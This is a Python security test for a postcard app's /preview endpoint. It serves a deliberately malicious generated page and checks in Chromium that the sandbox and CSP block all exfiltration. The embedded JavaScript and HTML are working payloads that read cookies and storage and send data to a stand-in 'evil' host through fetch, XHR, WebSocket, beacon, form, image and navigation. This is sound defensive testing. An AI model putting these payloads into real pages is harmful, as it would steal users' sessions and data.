"""A malicious generated page, served by /preview in Chromium: every way out is blocked.

The page is stored as a postcard's frontend_code through the run store, the way the worker
stores a model's page. It tries to read the app's cookie and storage, call the API, reach
another origin by fetch/XHR/beacon/WebSocket/image/script/form/popup/navigation; an evil
server on another port records whatever arrives, and Chromium records every request.
"""

from __future__ import annotations

import asyncio
import threading
import uuid
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, Frame, Page, Request

from core.devserver import free_port
from core.migrate import migrate
from core.models import PostcardRequest
from core.settings import Settings
from core.wiring import blob_store
from providers.simulated import PNG_1PX
from tests.harness import record_completed
from tests.stack import RedisServer, serve_api, stack_settings

COOKIE = "studio-session-SECRET-0077"
# Each attempt ends "blocked: <error>", "LEAKED: <value>", or "attempted" when the page cannot
# tell (a form post, a beacon): those are judged by the network record and the evil server.
ATTACKS = """
const R = (window.__results = {});
let OWN_IMAGE = "unknown";
window.__ownImage = () => OWN_IMAGE;
async function attempt(name, fn) {
  try { R[name] = "LEAKED: " + String(await fn()).slice(0, 200); }
  catch (e) { R[name] = "blocked: " + ((e && e.name) || e); }
}
function request(url, credentials) {
  return new Promise((ok, no) => {
    const x = new XMLHttpRequest();
    x.open("GET", url);
    x.withCredentials = credentials;
    x.onload = () => ok(x.status);
    x.onerror = () => no(new Error("NetworkError"));
    x.send();
  });
}
(async () => {
  await attempt("read app cookie", () => document.cookie);
  await attempt("write cookie", () => { document.cookie = "planted=1"; return document.cookie; });
  await attempt("localStorage", () => localStorage.getItem("token") ?? "readable");
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => new Promise((ok, no) => {
    const open = indexedDB.open("loot");
    open.onsuccess = () => ok("opened");
    open.onerror = () => no(open.error);
  }));
  await attempt("fetch app API", () =>
    fetch(APP + "/api/v1/postcards", { credentials: "include" }).then((r) => r.text()));
  await attempt("fetch evil", () => fetch(EVIL + "/exfil").then((r) => r.status));
  await attempt("XHR app API", () => request(APP + "/api/v1/postcards", true));
  await attempt("XHR evil", () => request(EVIL + "/xhr", false));
  await attempt("WebSocket", () => new Promise((ok, no) => {
    const ws = new WebSocket(EVIL.replace("http", "ws") + "/ws");
    ws.onopen = () => ok("open");
    ws.onerror = () => no(new Error("WebSocketError"));
  }));
  await attempt("popup", () => {
    const win = window.open(EVIL + "/popup");
    if (win) return "opened";
    throw new Error("NoWindow");
  });
  try { navigator.sendBeacon(EVIL + "/beacon", "loot"); R["beacon"] = "attempted"; }
  catch (e) { R["beacon"] = "blocked: " + e.name; }
  try { document.getElementById("f").submit(); R["form post"] = "attempted"; }
  catch (e) { R["form post"] = "blocked: " + e.name; }
  const img = new Image();
  img.src = EVIL + "/late-pixel.png";
  R["script image"] = "attempted";
  try { window.top.location.href = EVIL + "/top"; R["top navigation"] = "attempted"; }
  catch (e) { R["top navigation"] = "blocked: " + e.name; }
  const own = document.getElementById("own");
  if (!own.complete) await new Promise((done) => { own.onload = own.onerror = done; });
  OWN_IMAGE = own.complete && own.naturalWidth > 0 ? "loaded" : "missing";
  R["self navigation"] = "attempted";
  R.done = "yes";
  setTimeout(() => { location.href = EVIL + "/self?loot=" + document.title; }, 1000);
})();
"""


class EvilServer:
    """Another origin that records every request reaching it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args: Any) -> None:
                return

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def malicious_page(app: str, evil: str, image_url: str) -> str:
    """Markup with an external image, script, style and form, then the scripted attacks."""
    return f"""<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="3;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/style.css">
<style>body {{ background: url("{evil}/bg.png"); }}</style>
<script src="{evil}/remote.js"></script>
</head><body>
<img id="own" src="{image_url}" alt="">
<img src="{evil}/pixel.png?leak=1" alt="">
<iframe src="{evil}/frame"></iframe>
<form id="f" action="{evil}/form" method="post"><input name="stolen" value="x"></form>
<pre id="out">running</pre>
<script>const APP = "{app}", EVIL = "{evil}";
{ATTACKS}</script>
</body></html>"""


def store_postcard(settings: Settings, html_for_image: Any) -> str:
    """A COMPLETED postcard whose page is `html_for_image(image_url)`, stored as the worker does."""
    task_id = uuid.uuid4().hex
    request = PostcardRequest(task_id=task_id, user_input="evil", created_at=datetime.now(UTC))
    image = blob_store(settings).put(f"images/{task_id}.png", PNG_1PX, "image/png")
    results = {"frontend_code": html_for_image(image.url), "image_key": image.key}
    record_completed(settings, request, results)
    return task_id


def preview_frame(page: Page) -> Frame:
    """The frame running the generated page (inside the app's frame or the embedding page)."""
    return next(f for f in page.frames if "/preview/" in f.url and f.parent_frame is not None)


async def attack(page: Page) -> dict[str, str]:
    """Wait for the page's attacks to finish; their outcomes by name."""
    results: dict[str, str] = {}
    for _ in range(100):
        frames = [f for f in page.frames if "/preview/" in f.url and f.parent_frame is not None]
        if frames:
            results = await frames[0].evaluate(
                "({...(window.__results || {}), 'own image': window.__ownImage?.()})"
            )
            if results.get("done"):
                return results
        await asyncio.sleep(0.1)
    raise AssertionError(f"the attacks never finished: {results} in {[f.url for f in page.frames]}")


async def test_malicious_page_opened_directly_is_contained(
    tmp_path: Path, redis_server: RedisServer, browser: Browser
) -> None:
    url = f"sqlite:///{tmp_path / 'postcards.db'}"
    migrate(url)
    base = Settings(_env_file=None, data_dir=tmp_path / "data", database_url=url)  # type: ignore[call-arg]
    settings = stack_settings(base, redis_server.url, free_port())
    evil = EvilServer()
    app = settings.effective_public_base_url
    task_id = store_postcard(settings, lambda image: malicious_page(app, evil.url, image))
    preview = f"{app}/preview/{task_id}"
    async with serve_api(settings):
        context = await browser.new_context()
        await context.add_cookies([{"name": "session", "value": COOKIE, "url": app}])
        page = await context.new_page()
        requests: list[Request] = []
        context.on("request", lambda request: requests.append(request))
        await page.goto(preview)  # how a phone opens a shared link
        results = await attack(page)
        await page.wait_for_timeout(3500)  # the delayed self-navigation and meta refresh
        top_url = page.url
        await context.close()
    evil.close()

    print("\n" + "\n".join(f"  {k}: {v}" for k, v in sorted(results.items())))
    assert COOKIE not in str(results)
    assert not [f"{k}: {v}" for k, v in results.items() if v.startswith("LEAKED")]
    for name in ("read app cookie", "localStorage", "fetch app API", "XHR app API", "popup"):
        assert results[name].startswith("blocked"), name
    assert results["top navigation"].startswith("blocked")
    assert results["own image"] == "loaded"
    assert evil.hits == [], "nothing reached the other origin"
    left = [r.url for r in requests if r.failure is None]
    expected = [preview, f"{preview}?frame=1", f"{app}/files/images/{task_id}.png"]
    assert left == expected, "only the app's frame, the page in it, and the page's own image"
    refused = {r.url for r in requests if r.failure is not None}
    assert {f"{evil.url}/pixel.png?leak=1", f"{app}/api/v1/postcards"} <= refused
    assert all(r.url.startswith((evil.url, app)) for r in requests)
    assert top_url == preview


def _is_frame(answer: httpx.Response) -> bool:
    policy = answer.headers["content-security-policy"]
    return "frame-src 'self'" in policy and "<iframe" in answer.text and "evil" not in answer.text


def _is_sandboxed_page(answer: httpx.Response) -> bool:
    policy = answer.headers["content-security-policy"]
    sandbox = next(p for p in policy.split(";") if p.strip().startswith("sandbox"))
    return "evil" in answer.text and "allow-top-navigation" not in sandbox


@pytest.mark.parametrize(
    ("headers", "params", "framed"),
    [
        ({}, {}, True),  # curl, an older webview: no Sec-Fetch-Dest, the wrapper frame
        ({"Sec-Fetch-Dest": "document"}, {}, True),  # a browser navigation
        ({"Sec-Fetch-Dest": "document"}, {"frame": "1"}, True),  # the marker never skips it
        ({"Sec-Fetch-Dest": "empty"}, {}, True),  # fetch() from a script
        ({"Sec-Fetch-Dest": "iframe"}, {}, False),  # the wrapper's (or the studio's) frame
        ({}, {"frame": "1"}, False),  # the wrapper's frame in a client without the header
    ],
)
async def test_only_a_frame_load_gets_the_page_itself(
    tmp_path: Path,
    redis_server: RedisServer,
    headers: dict[str, str],
    params: dict[str, str],
    framed: bool,
) -> None:
    url = f"sqlite:///{tmp_path / 'postcards.db'}"
    migrate(url)
    base = Settings(_env_file=None, data_dir=tmp_path / "data", database_url=url)  # type: ignore[call-arg]
    settings = stack_settings(base, redis_server.url, free_port())
    app = settings.effective_public_base_url
    task_id = store_postcard(settings, lambda image: malicious_page(app, "http://evil", image))
    async with serve_api(settings), httpx.AsyncClient(base_url=app) as http:
        answer = await http.get(f"/preview/{task_id}", headers=headers, params=params)
    assert answer.status_code == 200
    assert answer.headers["x-content-type-options"] == "nosniff"
    if framed:
        assert _is_frame(answer), answer.text[:300]
        assert f'src="/preview/{task_id}?frame=1"' in answer.text
    else:
        assert _is_sandboxed_page(answer), answer.headers["content-security-policy"]
